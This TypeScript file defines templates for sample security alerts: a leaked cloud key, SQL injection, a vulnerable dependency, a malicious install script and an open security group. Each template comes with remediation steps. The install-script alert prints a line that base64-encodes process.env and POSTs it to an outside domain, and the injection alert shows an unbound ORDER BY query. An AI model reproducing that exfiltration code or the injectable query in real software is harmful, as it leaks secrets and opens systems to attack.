/** Source code, builds and dependencies. */
import type { AlertKind } from '../kind.ts';
import { code, list, steps, table, text } from '../markdown.ts';

export const codeKinds: readonly AlertKind[] = [
  {
    source: 'github',
    severities: ['critical', 'high'],
    tags: ['code', 'secrets', 'T1552.001'],
    name: (s) => `Cloud access key committed to ${s.repository}`,
    summary: (s) => `Commit ${s.commit} holds an access key of ${s.account} that is still valid.`,
    description: (s) =>
      text(
        `The secret scanner found a valid access key in **${s.repository}**, commit \`${s.commit}\` by ${s.login}.`,
        code(
          'diff',
          '--- a/config/local.env',
          '+++ b/config/local.env',
          '+AWS_ACCESS_KEY_ID=AKIA****************',
          '+AWS_SECRET_ACCESS_KEY=****',
        ),
        'Removing the line is **not** enough, it stays in the history.',
        steps(
          'Deactivate the key, then delete it.',
          'Look for its use from unknown addresses.',
          'Move the value to the vault.',
          'Switch on push protection for the repository.',
        ),
      ),
  },
  {
    source: 'semgrep',
    severities: ['medium', 'high', 'low'],
    tags: ['code', 'CWE-89', 'sast'],
    name: (s) => `SQL built from a request parameter in ${s.repository}`,
    summary: (s) =>
      `The parameter "order" reaches a statement without being bound (src/orders/list.ts:${s.few}).`,
    description: (s) =>
      text(
        `A value from the query goes into a statement in **${s.repository}**:`,
        code(
          'ts',
          'const order = request.query.order;',
          'const rows = await db.query(`SELECT * FROM orders ORDER BY ${order}`);',
        ),
        'A column name cannot be bound as a parameter, so allow a fixed set instead:',
        code(
          'ts',
          "const columns = new Set(['id', 'created_at', 'total']);",
          "const column = columns.has(order) ? order : 'id';",
        ),
        `Found at commit \`${s.commit}\`, line ${s.few}. Rule: \`ts.sql-from-request\`.`,
      ),
  },
  {
    source: 'github',
    severities: ['high', 'medium', 'medium'],
    tags: ['code', 'dependency', 'supply-chain'],
    name: (s) => `Dependency of ${s.repository} with a known remote code execution`,
    summary: (s) =>
      `A library deep in the tree of ${s.repository} runs code from crafted input; a fixed release exists.`,
    description: (s) =>
      text(
        `**${s.repository}** uses a template library in a release that runs code found in its input.`,
        table(
          ['', ''],
          ['Installed', '3.1.6'],
          ['Fixed in', '3.1.9'],
          ['Reached by', 'mail templates'],
          ['Exploit public', 'yes'],
        ),
        'It comes in by way of another package:',
        code('text', s.repository, '└─ mail-composer 5.4.0', '   └─ tiny-templates 3.1.6'),
        list(
          'Our templates are our own, so that the hole is hard to reach.',
          'Nonetheless update within the week.',
        ),
      ),
  },
  {
    source: 'ci',
    severities: ['critical', 'high'],
    tags: ['code', 'supply-chain', 'T1195.002'],
    name: (s) => `Build of ${s.repository} sent data to ${s.domain}`,
    summary: (s) => `An install script on ${s.server} read the environment and sent it away.`,
    description: (s) =>
      text(
        `While **${s.repository}** was built on \`${s.server}\`, a script that runs at installation opened a connection to \`${s.domain}\`.`,
        code(
          'js',
          "const data = Buffer.from(JSON.stringify(process.env)).toString('base64');",
          `fetch('https://${s.domain}/p', { method: 'POST', body: data });`,
        ),
        'The package changed hands two weeks ago, and got a new release last night.',
        '### Secrets that the build could see',
        list(
          'token of the package registry',
          'deploy key of staging',
          'signing key: **no**, it lives on another runner',
        ),
        steps('Rotate the first two.', 'Pin the former release.', `Rebuild the runner ${s.server}.`),
      ),
  },
  {
    source: 'semgrep',
    severities: ['info', 'low'],
    tags: ['code', 'iac', 'hardening'],
    name: (s) => `Security group open to the world in ${s.repository}`,
    summary: (s) => `Port ${s.port} would be reachable from 0.0.0.0/0 once the change is applied.`,
    description: (s) =>
      text(
        `A change by ${s.login} in **${s.repository}** opens port ${s.port} to everybody:`,
        code(
          'hcl',
          'ingress {',
          `  from_port   = ${s.port}`,
          `  to_port     = ${s.port}`,
          '  protocol    = "tcp"',
          '  cidr_blocks = ["0.0.0.0/0"]',
          '}',
        ),
        'It is not applied yet. If the service is meant to be public, put it behind the load balancer; otherwise name the networks.',
        `Found in pull request #${s.many}.`,
      ),
  },
];
